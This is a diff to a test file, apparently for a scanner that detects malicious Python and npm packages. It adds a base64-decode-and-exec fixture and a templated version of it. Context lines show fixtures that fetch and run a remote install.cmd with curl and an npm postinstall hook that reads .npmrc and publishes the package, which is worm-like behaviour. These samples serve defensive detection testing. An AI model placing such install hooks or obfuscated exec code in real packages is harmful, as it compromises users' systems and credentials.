@@ -240,6 +240,13 @@ CASES = [
      py(setup_py("import subprocess\nsubprocess.run(['cmd', '/c', 'curl -fsSL https://tool.example/install.cmd -o install.cmd && install.cmd'])\n")),
      py(module("import subprocess\ndef install_claude():\n    subprocess.run(['cmd', '/c', "
                "'curl -fsSL https://tool.example/install.cmd -o install.cmd && install.cmd && del install.cmd'])\n"))),
+    # a template of code run in a remote sandbox, its payload a placeholder (better-rlm); the
+    # same lines with a blob in place of the placeholder decode and run that blob
+    ("STATIC-PY-DECODE-EXEC-VAR",
+     py(module('import base64, io\ncode = base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=").decode()\nbuf = io.StringIO()\n'
+               'exec(code, {}, {})\n')),
+     py(module('SCAFFOLD = f"""\nimport base64, io\ncode = base64.b64decode("{code_b64}").decode()\nbuf = io.StringIO()\n'
+               'exec(code, {{}}, {{}})\n"""\n'))),
     ("STATIC-NPM-WORM-PUBLISH",
      js({"index.js": "", "install.js": "const {execSync} = require('child_process');\nconst t = require('fs').readFileSync(home + '/.npmrc');\n"
                      "execSync('npm publish --access public');\n"}, scripts={"postinstall": "node install.js"}),
